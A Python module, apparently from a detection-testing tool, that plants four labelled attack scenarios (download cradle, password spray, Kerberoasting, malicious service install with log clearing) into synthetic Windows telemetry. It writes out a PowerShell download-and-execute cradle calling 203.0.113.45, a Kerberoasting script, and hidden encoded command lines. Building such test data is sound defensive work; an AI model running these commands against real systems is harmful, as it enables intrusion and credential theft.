"""What does not belong: four behaviours hidden in the week, each noted with the events it left."""

from __future__ import annotations

from typing import NamedTuple

from undersign.telemetry.sample_history import event_data as ev
from undersign.telemetry.sample_history.estate import Account, Estate, sid_of
from undersign.telemetry.sample_history.ordinary import HOUR, MINUTE, ask
from undersign.telemetry.sample_history.programs import POWERSHELL_EXE, encoded
from undersign.telemetry.sample_history.tape import Tape

_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/inv')"
_ROAST = (
    "Add-Type -AssemblyName System.IdentityModel\r\n"
    "setspn.exe -T corp.example -Q */* | ForEach-Object { "
    "New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken "
    "-ArgumentList $_ }"
)
_WINWORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"


class Plant(NamedTuple):
    """A planted behaviour by the tape orders of its events, before they are numbered."""

    name: str
    technique: str
    description: str
    account: str
    origin: str
    orders: tuple[int, ...]


def plant_all(tape: Tape, estate: Estate, midnights: tuple[int, ...]) -> tuple[Plant, ...]:
    """Hide every behaviour, in the middle of the week when there is one."""
    middle = midnights[len(midnights) // 2]
    day_before = midnights[max(0, len(midnights) // 2 - 1)]
    return (
        _download_cradle(tape, estate, day_before + 15 * HOUR + 12 * MINUTE),
        _password_spray(tape, estate, middle + 11 * HOUR + 41 * MINUTE),
        _kerberoasting(tape, estate, middle + 14 * HOUR + 5 * MINUTE),
        _service_install(tape, estate, middle + 16 * HOUR + 33 * MINUTE),
    )


def _kerberoasting(tape: Tape, estate: Estate, at: int) -> Plant:
    rng, actor = tape.rng, estate.people[12]
    line = "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\Public\\inv.ps1"
    program = ev.Program(POWERSHELL_EXE, line, "C:\\Windows\\System32\\cmd.exe")
    orders = [
        tape.note(at - 4_000, actor.home, "process", ev.process(rng, at - 4_000, program, actor)),
        tape.note(
            at - 3_200,
            actor.home,
            "script",
            ev.script_block(rng, _ROAST, "C:\\Users\\Public\\inv.ps1"),
        ),
    ]
    targets = rng.sample(estate.roastable, len(estate.roastable))
    step = 11 * MINUTE // len(targets)
    for service in targets:
        ticket = ev.Ticket(actor.name, service.name, actor.home.address, ev.RC4)
        orders.append(ask(tape, estate, at + rng.randrange(step // 2), ticket))
        at += step
    return Plant(
        "kerberoasting",
        "T1558.003",
        f"{actor.name}, no administrator, asks for RC4 tickets of {len(targets)} services "
        f"from {actor.home.name} within 12 minutes",
        actor.name,
        actor.home.name,
        tuple(orders),
    )


def _download_cradle(tape: Tape, estate: Estate, at: int) -> Plant:
    rng, actor = tape.rng, estate.people[5]
    host = actor.home
    line = f"powershell.exe -nop -w hidden -enc {encoded(_CRADLE)}"
    started = ev.process(rng, at, ev.Program(POWERSHELL_EXE, line, _WINWORD), actor)
    run_key = f"HKU\\{actor.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Inventory"
    dropped = f"C:\\Users\\{actor.name}\\AppData\\Roaming\\inv.exe"
    web = ("203.0.113.45", "80")
    orders = (
        tape.note(at, host, "process", started),
        tape.note(at + 600, host, "script", ev.script_block(rng, _CRADLE)),
        tape.note(at + 900, host, "connection", ev.connection(rng, started, at + 900, host, web)),
        tape.note(at + 3_100, host, "file", ev.file_created(started, at + 3_100, dropped)),
        tape.note(
            at + 3_500, host, "registry", ev.registry_set(started, at + 3_500, run_key, dropped)
        ),
    )
    return Plant(
        "download-cradle",
        "T1059.001",
        f"a document starts encoded PowerShell on {host.name} that downloads and runs a script, "
        "drops a program and adds a run key",
        actor.name,
        host.name,
        orders,
    )


def _password_spray(tape: Tape, estate: Estate, at: int) -> Plant:
    rng, origin = tape.rng, estate.people[20].home
    controller = estate.controllers[0]
    orders = []
    for person in estate.people:
        at += rng.randint(6_000, 11_000)
        data = ev.preauth_failed(rng, person.name, origin.address)
        orders.append(tape.note(at, controller, "preauth failed", data))
        failed = ev.failed_logon(rng, person.name, 3, origin, "0xc000006a")
        orders.append(tape.note(at + 2, estate.servers["FS01"], "failed logon", failed))
    caught = ev.Ticket(estate.people[12].name, "krbtgt", origin.address)
    orders.append(tape.note(at + 12_000, controller, "tgt", ev.tgt(rng, caught)))
    return Plant(
        "password-spray",
        "T1110.003",
        f"one password is tried on {len(estate.people)} accounts from {origin.name} "
        "within 8 minutes; one account opens",
        estate.people[12].name,
        origin.name,
        tuple(orders),
    )


def _service_install(tape: Tape, estate: Estate, at: int) -> Plant:
    rng, host = tape.rng, estate.servers["APP02"]
    actor = Account("adm02", sid_of("adm02"), estate.people[12].home, admin=True)
    image = f"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc {encoded(_CRADLE)}"
    session = ev.logon_id(rng)
    installed = ev.service_installed("XkTzQpLw", image, "demand start", "LocalSystem")
    cleared = {
        "SubjectUserSid": actor.sid,
        "SubjectUserName": actor.name,
        "SubjectDomainName": "CORP",
        "SubjectLogonId": session,
    }
    orders = (
        tape.note(at, host, "logon", ev.logon(rng, actor, 3, host, session)),
        tape.note(at + 1, host, "privileges", ev.privileges(actor, session)),
        tape.note(at + 2_000, host, "service installed", installed),
        tape.note(at + 2_400, host, "service state", ev.service_state("XkTzQpLw", "running")),
        tape.note(at + 9 * MINUTE, host, "log cleared", cleared),
    )
    return Plant(
        "service-install",
        "T1543.003",
        f"a service with a random name and an encoded command is installed on {host.name}, "
        "then the security log is cleared",
        actor.name,
        host.name,
        orders,
    )
